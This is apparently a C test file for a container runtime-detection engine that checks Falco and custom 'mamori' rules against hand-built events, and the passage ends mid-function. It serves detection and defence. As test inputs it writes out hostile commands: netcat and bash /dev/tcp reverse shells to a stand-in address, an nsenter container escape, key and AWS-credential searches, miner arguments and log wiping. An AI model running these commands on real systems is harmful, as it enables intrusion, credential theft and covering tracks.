/* test-runtime-rules.c - Falco's stable rules and mamori's rules on events
 * built by hand: for each rule one event that fires it and a near miss
 * that does not; outputs as Falco prints them; malformed files. */
#include "test-util.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>

#include "core/core-error.h"
#include "runtime/runtime-rules.h"

#define CID "3f9a1c2b7d4e5f60718293a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4"

static struct mmr_rt_rules *stable, *mamori;
static struct mmr_rt_proctab *procs;
static struct mmr_rt_conttab *conts;
static struct mmr_rt_env env;
static uint64_t seq = 100;

static struct mmr_rt_proc *mkproc(int pid, int ppid, const char *comm, const char *exepath,
				  const char *container, const char *const *argv)
{
	struct mmr_rt_proc *p = mmr_rt_proctab_upsert(procs, pid);
	assert_non_null(p);
	p->ppid = ppid;
	p->sid = pid;
	mmr_rt_strlcpy(p->comm, comm, sizeof(p->comm));
	mmr_rt_strlcpy(p->exepath, exepath, sizeof(p->exepath));
	mmr_rt_strlcpy(p->cwd, "/root/", sizeof(p->cwd));
	mmr_rt_strlcpy(p->user, "root", sizeof(p->user));
	mmr_rt_strlcpy(p->group, "root", sizeof(p->group));
	mmr_rt_strlcpy(p->container_id, container ? container : "", sizeof(p->container_id));
	size_t n = 0;
	while (argv[n])
		n++;
	mmr_rt_proc_set_argv(p, argv, n);
	p->start_ts = 1700000000000000000ull;
	return p;
}

static int load_rules(void **state)
{
	(void)state;
	struct mmr_error e = { 0 };
	char b[1200];
	procs = mmr_rt_proctab_new(0);
	conts = mmr_rt_conttab_new(0);
	env.procs = procs;
	env.conts = conts;
	env.hostname = "node1";
	stable = mmr_rt_rules_new(NULL);
	int rc = mmr_rt_rules_load_file(stable, mmr_test_corpus("runtime/falco_rules.yaml"), &e);
	if (rc == 0)
		rc = mmr_rt_rules_compile(stable, &e);
	if (rc < 0)
		fprintf(stderr, "stable: %s\n", mmr_error_format(&e, b, sizeof(b)));
	mamori = mmr_rt_rules_new(NULL);
	int rc2 = mmr_rt_rules_load_file(mamori, MMR_SOURCE_ROOT "/rules/runtime/mamori_rules.yaml", &e);
	if (rc2 == 0)
		rc2 = mmr_rt_rules_compile(mamori, &e);
	if (rc2 < 0)
		fprintf(stderr, "mamori: %s\n", mmr_error_format(&e, b, sizeof(b)));
	struct mmr_rt_container *c = mmr_rt_conttab_upsert(conts, CID);
	mmr_rt_strlcpy(c->name, "web", sizeof(c->name));
	mmr_rt_strlcpy(c->image, "docker.io/library/nginx:1.25", sizeof(c->image));
	mmr_rt_strlcpy(c->image_repository, "docker.io/library/nginx", sizeof(c->image_repository));
	mmr_rt_strlcpy(c->image_tag, "1.25", sizeof(c->image_tag));
	c->start_ts = 1700000000000000000ull;
	/* host: systemd(1) -> sshd(500) -> bash(600); container: bash(1001), priv container */
	mkproc(1, 0, "systemd", "/usr/lib/systemd/systemd", NULL, (const char *[]){ "/sbin/init", NULL });
	mkproc(500, 1, "sshd", "/usr/sbin/sshd", NULL, (const char *[]){ "sshd:", "root@pts/0", NULL });
	mkproc(600, 500, "bash", "/usr/bin/bash", NULL, (const char *[]){ "-bash", NULL });
	mkproc(1001, 77777, "bash", "/usr/bin/bash", CID, (const char *[]){ "bash", NULL });
	return rc < 0 || rc2 < 0 ? -1 : 0;
}

static int free_rules(void **state)
{
	(void)state;
	mmr_rt_rules_free(stable);
	mmr_rt_rules_free(mamori);
	mmr_rt_proctab_free(procs);
	mmr_rt_conttab_free(conts);
	return 0;
}

struct hits {
	char names[2048];
	int n;
};

static int on_match(const struct mmr_rt_rule *rule, const struct mmr_rt_event *ev, void *ud)
{
	(void)ev;
	struct hits *h = ud;
	size_t l = strlen(h->names);
	snprintf(h->names + l, sizeof(h->names) - l, "%s|", rule->name);
	h->n++;
	return 0;
}

static bool fires(const struct mmr_rt_rules *r, const struct mmr_rt_event *ev, const char *rule)
{
	struct hits h = { "|", 0 };
	int n = mmr_rt_rules_eval(r, &env, ev, on_match, &h);
	assert_int_equal(n, h.n);
	char key[300];
	snprintf(key, sizeof(key), "|%s|", rule);
	return strstr(h.names, key) != NULL;
}

/* an exec event of a new process pid with parent ppid */
static void exec_ev(struct mmr_rt_event *ev, int pid, int ppid, const char *comm,
		    const char *exepath, const char *container, const char *const *argv)
{
	mmr_rt_event_init(ev);
	ev->seq = ++seq;
	ev->ts = 1700000100123456789ull;
	ev->type = MMR_RT_EVT_EXECVE;
	ev->pid = ev->tid = pid;
	struct mmr_rt_proc *p = mkproc(pid, ppid, comm, exepath, container, argv);
	ev->proc = p;
	mmr_rt_event_add_arg(ev, "flags", "0", 0, true);
}

static void open_ev(struct mmr_rt_event *ev, int pid, const char *path, int flags,
		    const char *flagstr)
{
	mmr_rt_event_init(ev);
	ev->seq = ++seq;
	ev->ts = 1700000100000000000ull;
	ev->type = MMR_RT_EVT_OPENAT;
	ev->pid = ev->tid = pid;
	ev->proc = mmr_rt_proctab_get(procs, pid);
	ev->res = 3;
	ev->fd.num = 3;
	ev->fd.typechar = MMR_RT_FD_FILE;
	ev->fd.open_flags = (uint32_t)flags;
	mmr_rt_strlcpy(ev->fd.name, path, sizeof(ev->fd.name));
	mmr_rt_event_add_arg(ev, "flags", flagstr, flags, true);
	mmr_rt_event_add_arg(ev, "name", path, 0, false);
}

static void stable_loads_fully(void **state)
{
	(void)state;
	assert_int_equal(mmr_rt_rules_count(stable), 25);
	assert_int_equal(mmr_rt_rules_active(stable), 25);
	size_t n;
	mmr_rt_rules_skipped(stable, &n);
	assert_int_equal(n, 0);
	const struct mmr_rt_rule *r = mmr_rt_rules_find(stable, "Terminal shell in container");
	assert_non_null(r);
	assert_int_equal(r->priority, MMR_RT_PRIO_NOTICE);
	assert_true(r->ntags >= 3);
	assert_string_equal(r->tags[0], "maturity_stable");
}

static void incubating_lists_unsupported(void **state)
{
	(void)state;
	struct mmr_rt_rules *r = mmr_rt_rules_new(NULL);
	struct mmr_error e = { 0 };
	assert_int_equal(mmr_rt_rules_load_file(r, mmr_test_corpus("runtime/falco_rules.yaml"), &e), 0);
	assert_int_equal(mmr_rt_rules_load_file(r, mmr_test_corpus("runtime/falco-incubating_rules.yaml"), &e), 0);
	assert_int_equal(mmr_rt_rules_compile(r, &e), 0);
	size_t n;
	const struct mmr_rt_skipped *s = mmr_rt_rules_skipped(r, &n);
	bool env_seen = false;
	for (size_t i = 0; i < n; i++) {
		assert_non_null(s[i].field);
		if (!strcmp(s[i].rule, "Program run with disallowed http proxy env"))
			env_seen = !strcmp(s[i].field, "proc.env");
	}
	assert_true(env_seen);
	assert_int_equal(mmr_rt_rules_active(r) + n, mmr_rt_rules_count(r));
	print_message("# stable+incubating: %zu rules, %zu active, %zu skipped\n",
		      mmr_rt_rules_count(r), mmr_rt_rules_active(r), n);
	mmr_rt_rules_free(r);
}

static void terminal_shell_in_container(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2001, 77777, "bash", "/usr/bin/bash", CID, (const char *[]){ "bash", "-i", NULL });
	struct mmr_rt_proc *p = mmr_rt_proctab_get(procs, 2001);
	p->tty = 34816;
	p->loginuid = (uint32_t)-1;
	assert_true(fires(stable, &ev, "Terminal shell in container"));
	/* output as Falco prints it */
	char out[4096];
	const struct mmr_rt_rule *r = mmr_rt_rules_find(stable, "Terminal shell in container");
	mmr_rt_output_format(stable, r, &env, &ev, out, sizeof(out));
	assert_string_equal(out, "A shell was spawned in a container with an attached terminal | "
				 "evt_type=execve user=root user_uid=0 user_loginuid=-1 process=bash "
				 "proc_exepath=/usr/bin/bash parent=<NA> command=bash -i terminal=34816 "
				 "exe_flags=0");
	char *js = mmr_rt_output_json(stable, r, &env, &ev);
	assert_non_null(js);
	assert_non_null(strstr(js, "\"rule\":\"Terminal shell in container\""));
	assert_non_null(strstr(js, "\"priority\":\"Notice\""));
	assert_non_null(strstr(js, "\"output\":\"22:15:00.123456789: Notice A shell was spawned"));
	assert_non_null(strstr(js, "\"proc.tty\":34816"));
	assert_non_null(strstr(js, "\"proc.pname\":null"));
	assert_non_null(strstr(js, "\"hostname\":\"node1\""));
	assert_non_null(strstr(js, "\"time\":\"2023-11-14T22:15:00.123456789Z\""));
	assert_non_null(strstr(js, "\"tags\":[\"maturity_stable\",\"container\""));
	free(js);
	/* near miss: no tty */
	p->tty = 0;
	assert_false(fires(stable, &ev, "Terminal shell in container"));
	/* near miss: on the host */
	p->tty = 34816;
	p->container_id[0] = '\0';
	assert_false(fires(stable, &ev, "Terminal shell in container"));
}

static void read_sensitive_file_untrusted(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2100, 600, "python3", "/usr/bin/python3", NULL, (const char *[]){ "python3", "x.py", NULL });
	open_ev(&ev, 2100, "/etc/shadow", O_RDONLY, "O_RDONLY");
	assert_true(fires(stable, &ev, "Read sensitive file untrusted"));
	char out[4096];
	mmr_rt_output_format(stable, mmr_rt_rules_find(stable, "Read sensitive file untrusted"), &env, &ev, out, sizeof(out));
	assert_string_equal(out, "Sensitive file opened for reading by non-trusted program | file=/etc/shadow "
				 "gparent=sshd ggparent=systemd gggparent=<NA> evt_type=openat user=root "
				 "user_uid=0 user_loginuid=-1 process=python3 proc_exepath=/usr/bin/python3 "
				 "parent=bash command=python3 x.py terminal=0");
	/* near misses: a trusted program, another file, a write */
	mmr_rt_strlcpy(mmr_rt_proctab_get(procs, 2100)->comm, "sshd", 16);
	assert_false(fires(stable, &ev, "Read sensitive file untrusted"));
	mmr_rt_strlcpy(mmr_rt_proctab_get(procs, 2100)->comm, "python3", 16);
	open_ev(&ev, 2100, "/etc/hosts", O_RDONLY, "O_RDONLY");
	assert_false(fires(stable, &ev, "Read sensitive file untrusted"));
	open_ev(&ev, 2100, "/etc/pam.d/common-auth", O_RDONLY, "O_RDONLY");
	assert_true(fires(stable, &ev, "Read sensitive file untrusted"));
	open_ev(&ev, 2100, "/etc/shadow", O_WRONLY, "O_WRONLY");
	assert_false(fires(stable, &ev, "Read sensitive file untrusted"));
}

static void netcat_rce_in_container(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2200, 1001, "nc", "/usr/bin/nc", CID, (const char *[]){ "nc", "-e", "/bin/sh", "10.0.0.1", "4444", NULL });
	assert_true(fires(stable, &ev, "Netcat Remote Code Execution in Container"));
	exec_ev(&ev, 2201, 1001, "nc", "/usr/bin/nc", CID, (const char *[]){ "nc", "10.0.0.1", "4444", NULL });
	assert_false(fires(stable, &ev, "Netcat Remote Code Execution in Container"));
	exec_ev(&ev, 2202, 1001, "ncat", "/usr/bin/ncat", CID, (const char *[]){ "ncat", "--sh-exec", "id", "h", NULL });
	assert_true(fires(stable, &ev, "Netcat Remote Code Execution in Container"));
}

static void search_private_keys(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2300, 600, "find", "/usr/bin/find", NULL, (const char *[]){ "find", "/", "-name", "id_rsa", NULL });
	assert_true(fires(stable, &ev, "Search Private Keys or Passwords"));
	exec_ev(&ev, 2301, 600, "find", "/usr/bin/find", NULL, (const char *[]){ "find", "/", "-name", "notes.txt", NULL });
	assert_false(fires(stable, &ev, "Search Private Keys or Passwords"));
	exec_ev(&ev, 2302, 600, "grep", "/usr/bin/grep", NULL, (const char *[]){ "grep", "-r", "BEGIN RSA PRIVATE", "/home", NULL });
	assert_true(fires(stable, &ev, "Search Private Keys or Passwords"));
}

static void clear_log_activities(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	open_ev(&ev, 600, "/var/log/syslog", O_WRONLY | O_TRUNC, "O_TRUNC|O_WRONLY");
	assert_true(fires(stable, &ev, "Clear Log Activities"));
	open_ev(&ev, 600, "/var/log/syslog", O_WRONLY | O_APPEND, "O_APPEND|O_WRONLY");
	assert_false(fires(stable, &ev, "Clear Log Activities"));
	open_ev(&ev, 600, "/srv/data/auth.log", O_WRONLY | O_TRUNC, "O_TRUNC|O_WRONLY");
	assert_true(fires(stable, &ev, "Clear Log Activities"));
}

static void net_ev(struct mmr_rt_event *ev, int pid, enum mmr_rt_evt_type type, const char *dst,
		   uint16_t port)
{
	mmr_rt_event_init(ev);
	ev->seq = ++seq;
	ev->type = (uint16_t)type;
	ev->pid = ev->tid = pid;
	ev->proc = mmr_rt_proctab_get(procs, pid);
	ev->fd.num = 5;
	ev->fd.typechar = MMR_RT_FD_IPV4;
	ev->fd.l4proto = MMR_RT_L4_TCP;
	ev->fd.connected = true;
	ev->fd.cip.family = ev->fd.sip.family = AF_INET;
	ev->fd.cip.ip[10] = ev->fd.cip.ip[11] = ev->fd.sip.ip[10] = ev->fd.sip.ip[11] = 0xff;
	uint8_t c[4] = { 172, 17, 0, 2 };
	memcpy(ev->fd.cip.ip + 12, c, 4);
	unsigned a, b, cc, d;
	assert_int_equal(sscanf(dst, "%u.%u.%u.%u", &a, &b, &cc, &d), 4);
	ev->fd.sip.ip[12] = (uint8_t)a;
	ev->fd.sip.ip[13] = (uint8_t)b;
	ev->fd.sip.ip[14] = (uint8_t)cc;
	ev->fd.sip.ip[15] = (uint8_t)d;
	ev->fd.cport = 40000;
	ev->fd.sport = port;
	snprintf(ev->fd.name, sizeof(ev->fd.name), "172.17.0.2:40000->%s:%u", dst, port);
}

static void contact_k8s_api(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	net_ev(&ev, 1001, MMR_RT_EVT_CONNECT, "10.96.0.1", 443);
	mmr_rt_strlcpy(ev.fd.sip_name, "kubernetes.default.svc.cluster.local", sizeof(ev.fd.sip_name));
	assert_true(fires(stable, &ev, "Contact K8S API Server From Container"));
	char out[4096];
	mmr_rt_output_format(stable, mmr_rt_rules_find(stable, "Contact K8S API Server From Container"), &env, &ev, out, sizeof(out));
	assert_non_null(strstr(out, "connection=172.17.0.2:40000->10.96.0.1:443 lport=40000 rport=443 fd_type=ipv4 fd_proto=tcp evt_type=connect"));
	ev.proc = mmr_rt_proctab_get(procs, 600); /* host */
	assert_false(fires(stable, &ev, "Contact K8S API Server From Container"));
}

static void drop_and_execute(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2400, 1001, "x", "/tmp/x", CID, (const char *[]){ "/tmp/x", NULL });
	struct mmr_rt_proc *p = mmr_rt_proctab_get(procs, 2400);
	p->flags |= MMR_RT_PROC_EXE_UPPER_LAYER;
	assert_true(fires(stable, &ev, "Drop and execute new binary in container"));
	p->flags &= ~MMR_RT_PROC_EXE_UPPER_LAYER;
	assert_false(fires(stable, &ev, "Drop and execute new binary in container"));
}

static void fileless_memfd(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2500, 600, "3", "memfd:x (deleted)", NULL, (const char *[]){ "x", NULL });
	mmr_rt_proctab_get(procs, 2500)->flags |= MMR_RT_PROC_EXE_FROM_MEMFD;
	assert_true(fires(stable, &ev, "Fileless execution via memfd_create"));
	mmr_rt_proctab_get(procs, 2500)->flags = 0;
	assert_false(fires(stable, &ev, "Fileless execution via memfd_create"));
}

static void ptrace_attach(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_PTRACE;
	ev.proc = mmr_rt_proctab_get(procs, 600);
	mmr_rt_event_add_arg(&ev, "request", "PTRACE_ATTACH", 16, true);
	assert_true(fires(stable, &ev, "PTRACE attached to process"));
	ev.args[0].value[0] = '\0';
	mmr_rt_strlcpy(ev.args[0].value, "PTRACE_PEEKDATA", sizeof(ev.args[0].value));
	assert_false(fires(stable, &ev, "PTRACE attached to process"));
	mmr_rt_strlcpy(ev.args[0].value, "PTRACE_TRACEME", sizeof(ev.args[0].value));
	assert_true(fires(stable, &ev, "PTRACE anti-debug attempt"));
}

static void redirect_stdio_to_network(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	net_ev(&ev, 1001, MMR_RT_EVT_DUP2, "10.0.0.9", 4444);
	ev.res = 1;
	assert_true(fires(stable, &ev, "Redirect STDOUT/STDIN to Network Connection in Container"));
	ev.res = 7;
	assert_false(fires(stable, &ev, "Redirect STDOUT/STDIN to Network Connection in Container"));
}

static void symlink_and_hardlink(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_SYMLINKAT;
	ev.proc = mmr_rt_proctab_get(procs, 600);
	mmr_rt_event_add_arg(&ev, "target", "/etc/shadow", 0, false);
	mmr_rt_event_add_arg(&ev, "linkpath", "/tmp/s", 0, false);
	assert_true(fires(stable, &ev, "Create Symlink Over Sensitive Files"));
	char out[4096];
	mmr_rt_output_format(stable, mmr_rt_rules_find(stable, "Create Symlink Over Sensitive Files"), &env, &ev, out, sizeof(out));
	assert_non_null(strstr(out, "Symlinks created over sensitive files | target=/etc/shadow linkpath=/tmp/s evt_type=symlinkat"));
	mmr_rt_strlcpy(ev.args[0].value, "/etc/motd", sizeof(ev.args[0].value));
	assert_false(fires(stable, &ev, "Create Symlink Over Sensitive Files"));
	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_LINKAT;
	ev.proc = mmr_rt_proctab_get(procs, 600);
	mmr_rt_event_add_arg(&ev, "oldpath", "/etc/sudoers", 0, false);
	mmr_rt_event_add_arg(&ev, "newpath", "/tmp/s", 0, false);
	assert_true(fires(stable, &ev, "Create Hardlink Over Sensitive Files"));
	ev.type = MMR_RT_EVT_SYMLINKAT;
	assert_false(fires(stable, &ev, "Create Hardlink Over Sensitive Files"));
}

static void kernel_module_and_packet_socket(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2600, 1001, "insmod", "/usr/sbin/insmod", CID, (const char *[]){ "insmod", "rk.ko", NULL });
	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_FINIT_MODULE;
	ev.proc = mmr_rt_proctab_get(procs, 2600);
	mmr_rt_proctab_get(procs, 2600)->cap_effective = (uint64_t)1 << 16; /* CAP_SYS_MODULE */
	assert_true(fires(stable, &ev, "Linux Kernel Module Injection Detected"));
	mmr_rt_proctab_get(procs, 2600)->cap_effective = 0;
	assert_false(fires(stable, &ev, "Linux Kernel Module Injection Detected"));

	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_SOCKET;
	ev.proc = mmr_rt_proctab_get(procs, 1001);
	mmr_rt_event_add_arg(&ev, "domain", "AF_PACKET", 17, true);
	assert_true(fires(stable, &ev, "Packet socket created in container"));
	mmr_rt_strlcpy(ev.args[0].value, "AF_INET", sizeof(ev.args[0].value));
	assert_false(fires(stable, &ev, "Packet socket created in container"));
}

static void release_agent_and_debugfs(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2700, 1001, "sh", "/bin/sh", CID, (const char *[]){ "sh", NULL });
	struct mmr_rt_proc *p = mmr_rt_proctab_get(procs, 2700);
	p->cap_effective = ((uint64_t)1 << 21) | ((uint64_t)1 << 1); /* SYS_ADMIN, DAC_OVERRIDE */
	open_ev(&ev, 2700, "/sys/fs/cgroup/rdma/release_agent", O_WRONLY, "O_WRONLY");
	assert_true(fires(stable, &ev, "Detect release_agent File Container Escapes"));
	p->cap_effective = (uint64_t)1 << 1;
	assert_false(fires(stable, &ev, "Detect release_agent File Container Escapes"));

	struct mmr_rt_container *c = mmr_rt_conttab_get(conts, CID);
	exec_ev(&ev, 2701, 1001, "debugfs", "/sbin/debugfs", CID, (const char *[]){ "debugfs", "/dev/sda1", NULL });
	assert_false(fires(stable, &ev, "Debugfs Launched in Privileged Container"));
	c->privileged = true;
	assert_true(fires(stable, &ev, "Debugfs Launched in Privileged Container"));
	c->privileged = false;
}

static void aws_and_shm(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 2800, 600, "find", "/usr/bin/find", NULL, (const char *[]){ "find", "/", "-path", "*/.aws/credentials", NULL });
	assert_true(fires(stable, &ev, "Find AWS Credentials"));
	exec_ev(&ev, 2801, 600, "find", "/usr/bin/find", NULL, (const char *[]){ "find", "/", "-name", "x", NULL });
	assert_false(fires(stable, &ev, "Find AWS Credentials"));
	exec_ev(&ev, 2802, 600, "x", "/dev/shm/x", NULL, (const char *[]){ "/dev/shm/x", NULL });
	assert_true(fires(stable, &ev, "Execution from /dev/shm"));
	exec_ev(&ev, 2803, 600, "x", "/usr/bin/x", NULL, (const char *[]){ "/usr/bin/x", NULL });
	assert_false(fires(stable, &ev, "Execution from /dev/shm"));
}

static void mamori_exec_rules(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 3000, 900001, "bash", "/bin/bash", CID, (const char *[]){ "bash", NULL });
	assert_true(fires(mamori, &ev, "mamori: shell in container"));
	exec_ev(&ev, 3001, 3000, "bash", "/bin/bash", CID, (const char *[]){ "bash", NULL });
	assert_false(fires(mamori, &ev, "mamori: shell in container")); /* shell from shell */
	exec_ev(&ev, 3002, 600, "bash", "/bin/bash", NULL, (const char *[]){ "bash", NULL });
	assert_false(fires(mamori, &ev, "mamori: shell in container")); /* host */

	exec_ev(&ev, 3003, 1001, "apt-get", "/usr/bin/apt-get", CID, (const char *[]){ "apt-get", "install", "nmap", NULL });
	assert_true(fires(mamori, &ev, "mamori: package manager in container"));
	exec_ev(&ev, 3004, 600, "apt-get", "/usr/bin/apt-get", NULL, (const char *[]){ "apt-get", "install", "nmap", NULL });
	assert_false(fires(mamori, &ev, "mamori: package manager in container"));

	exec_ev(&ev, 3005, 1001, "bash", "/bin/bash", CID, (const char *[]){ "bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", NULL });
	assert_true(fires(mamori, &ev, "mamori: shell with socket stdio"));
	exec_ev(&ev, 3006, 1001, "bash", "/bin/bash", CID, (const char *[]){ "bash", "-c", "ls /dev", NULL });
	assert_false(fires(mamori, &ev, "mamori: shell with socket stdio"));

	exec_ev(&ev, 3007, 1001, "nsenter", "/usr/bin/nsenter", CID, (const char *[]){ "nsenter", "-t", "1", "-m", "-u", "-n", "-i", "sh", NULL });
	assert_true(fires(mamori, &ev, "mamori: container escape via nsenter"));
	exec_ev(&ev, 3008, 1001, "nsenter", "/usr/bin/nsenter", CID, (const char *[]){ "nsenter", "-t", "1234", "-n", NULL });
	assert_false(fires(mamori, &ev, "mamori: container escape via nsenter"));

	exec_ev(&ev, 3009, 1001, "kworker", "/tmp/kworker", CID, (const char *[]){ "kworker", "-o", "stratum+tcp://pool.example:3333", "-u", "w", NULL });
	assert_true(fires(mamori, &ev, "mamori: crypto miner"));
	exec_ev(&ev, 3010, 1001, "xmrig", "/tmp/xmrig", CID, (const char *[]){ "xmrig", NULL });
	assert_true(fires(mamori, &ev, "mamori: crypto miner"));
	exec_ev(&ev, 3011, 1001, "curl", "/usr/bin/curl", CID, (const char *[]){ "curl", "https://example.com/stratum", NULL });
	assert_false(fires(mamori, &ev, "mamori: crypto miner"));

	exec_ev(&ev, 3012, 1001, "x", "memfd:x", CID, (const char *[]){ "x", NULL });
	mmr_rt_proctab_get(procs, 3012)->flags = MMR_RT_PROC_EXE_FROM_MEMFD | MMR_RT_PROC_EXE_UPPER_LAYER;
	assert_true(fires(mamori, &ev, "mamori: exec from memfd"));
	assert_true(fires(mamori, &ev, "mamori: drift"));
	mmr_rt_proctab_get(procs, 3012)->flags = 0;
	assert_false(fires(mamori, &ev, "mamori: exec from memfd"));
	assert_false(fires(mamori, &ev, "mamori: drift"));

	exec_ev(&ev, 3013, 600, "modprobe", "/usr/sbin/modprobe", NULL, (const char *[]){ "modprobe", "rk", NULL });
	assert_true(fires(mamori, &ev, "mamori: kernel module load"));
	exec_ev(&ev, 3014, 600, "lsmod", "/usr/sbin/lsmod", NULL, (const char *[]){ "lsmod", NULL });
	assert_false(fires(mamori, &ev, "mamori: kernel module load"));
	exec_ev(&ev, 3015, 600, "journalctl", "/usr/bin/journalctl", NULL, (const char *[]){ "journalctl", "--vacuum-time=1s", NULL });
	assert_true(fires(mamori, &ev, "mamori: log clearing"));
}

static void mamori_file_rules(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	exec_ev(&ev, 3100, 1001, "cat", "/bin/cat", CID, (const char *[]){ "cat", NULL });
	open_ev(&ev, 3100, "/etc/shadow", O_RDONLY, "O_RDONLY");
	assert_true(fires(mamori, &ev, "mamori: read of shadow or ssh keys"));
	open_ev(&ev, 3100, "/home/alice/.ssh/id_ed25519", O_RDONLY, "O_RDONLY");
	assert_true(fires(mamori, &ev, "mamori: read of shadow or ssh keys"));
	open_ev(&ev, 3100, "/home/alice/.ssh/id_ed25519.pub", O_RDONLY, "O_RDONLY");
	assert_false(fires(mamori, &ev, "mamori: read of shadow or ssh keys"));
	open_ev(&ev, 3100, "/root/.aws/credentials", O_RDONLY, "O_RDONLY");
	assert_true(fires(mamori, &ev, "mamori: read of cloud credentials"));
	open_ev(&ev, 3100, "/root/.aws/config", O_RDONLY, "O_RDONLY");
	assert_false(fires(mamori, &ev, "mamori: read of cloud credentials"));

	open_ev(&ev, 3100, "/etc/passwd", O_WRONLY | O_APPEND, "O_APPEND|O_WRONLY");
	assert_true(fires(mamori, &ev, "mamori: write below system directory"));
	open_ev(&ev, 3100, "/usr/local/bin/x", O_RDWR | O_CREAT, "O_RDWR|O_CREAT");
	assert_true(fires(mamori, &ev, "mamori: write below system directory"));
	open_ev(&ev, 3100, "/etcetera/x", O_WRONLY, "O_WRONLY");
	assert_false(fires(mamori, &ev, "mamori: write below system directory"));
	open_ev(&ev, 3100, "/etc/passwd", O_RDONLY, "O_RDONLY");
	assert_false(fires(mamori, &ev, "mamori: write below system directory"));

	open_ev(&ev, 3100, "/proc/sys/kernel/core_pattern", O_WRONLY, "O_WRONLY");
	assert_true(fires(mamori, &ev, "mamori: release_agent or core_pattern write"));
	open_ev(&ev, 3100, "/sys/fs/cgroup/x/release_agent", O_WRONLY, "O_WRONLY");
	assert_true(fires(mamori, &ev, "mamori: release_agent or core_pattern write"));
	open_ev(&ev, 3100, "/sys/fs/cgroup/x/release_agent", O_RDONLY, "O_RDONLY");
	assert_false(fires(mamori, &ev, "mamori: release_agent or core_pattern write"));

	open_ev(&ev, 3100, "/dev/cpu/0/msr", O_RDWR, "O_RDWR");
	assert_true(fires(mamori, &ev, "mamori: MSR access"));
	open_ev(&ev, 3100, "/dev/cpu/0/cpuid", O_RDONLY, "O_RDONLY");
	assert_false(fires(mamori, &ev, "mamori: MSR access"));

	open_ev(&ev, 3100, "/var/log/auth.log", O_WRONLY | O_TRUNC, "O_TRUNC|O_WRONLY");
	assert_true(fires(mamori, &ev, "mamori: log clearing"));
	open_ev(&ev, 3100, "/var/log/auth.log", O_WRONLY | O_APPEND, "O_APPEND|O_WRONLY");
	assert_false(fires(mamori, &ev, "mamori: log clearing"));

	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_UNLINKAT;
	ev.proc = mmr_rt_proctab_get(procs, 3100);
	mmr_rt_event_add_arg(&ev, "name", "/var/log/wtmp", 0, false);
	assert_true(fires(mamori, &ev, "mamori: log clearing"));

	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_FCHMODAT;
	ev.proc = mmr_rt_proctab_get(procs, 3100);
	mmr_rt_event_add_arg(&ev, "filename", "/tmp/sh", 0, false);
	mmr_rt_event_add_arg(&ev, "mode", "S_ISUID|S_IXUSR|S_IRUSR|S_IWUSR", 04700, true);
	assert_true(fires(mamori, &ev, "mamori: setuid binary created"));
	mmr_rt_strlcpy(ev.args[1].value, "S_IXUSR|S_IRUSR|S_IWUSR", sizeof(ev.args[1].value));
	assert_false(fires(mamori, &ev, "mamori: setuid binary created"));

	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_MOUNT;
	ev.proc = mmr_rt_proctab_get(procs, 3100);
	mmr_rt_event_add_arg(&ev, "dev", "/dev/sda1", 0, false);
	mmr_rt_event_add_arg(&ev, "dir", "/mnt", 0, false);
	assert_true(fires(mamori, &ev, "mamori: host path mount"));
	mmr_rt_strlcpy(ev.args[0].value, "tmpfs", sizeof(ev.args[0].value));
	assert_false(fires(mamori, &ev, "mamori: host path mount"));
}

static void mamori_net_rules(void **state)
{
	(void)state;
	struct mmr_rt_event ev;
	net_ev(&ev, 1001, MMR_RT_EVT_CONNECT, "169.254.169.254", 80);
	assert_true(fires(mamori, &ev, "mamori: cloud metadata access from container"));
	char *js = mmr_rt_output_json(mamori, mmr_rt_rules_find(mamori, "mamori: cloud metadata access from container"), &env, &ev);
	assert_non_null(js);
	assert_non_null(strstr(js, "container=3f9a1c2b7d4e image=docker.io/library/nginx"));
	free(js);
	net_ev(&ev, 1001, MMR_RT_EVT_CONNECT, "169.254.169.253", 80);
	assert_false(fires(mamori, &ev, "mamori: cloud metadata access from container"));

	net_ev(&ev, 1001, MMR_RT_EVT_CONNECT, "203.0.113.7", 3333);
	assert_true(fires(mamori, &ev, "mamori: mining pool connection"));
	net_ev(&ev, 1001, MMR_RT_EVT_CONNECT, "203.0.113.7", 443);
	assert_false(fires(mamori, &ev, "mamori: mining pool connection"));
	mmr_rt_strlcpy(ev.fd.sip_name, "xmr-eu1.nanopool.org", sizeof(ev.fd.sip_name));
	assert_true(fires(mamori, &ev, "mamori: mining pool connection"));

	exec_ev(&ev, 3200, 1001, "bash", "/bin/bash", CID, (const char *[]){ "bash", NULL });
	net_ev(&ev, 3200, MMR_RT_EVT_DUP2, "10.0.0.1", 4444);
	ev.res = 0;
	assert_true(fires(mamori, &ev, "mamori: reverse shell"));
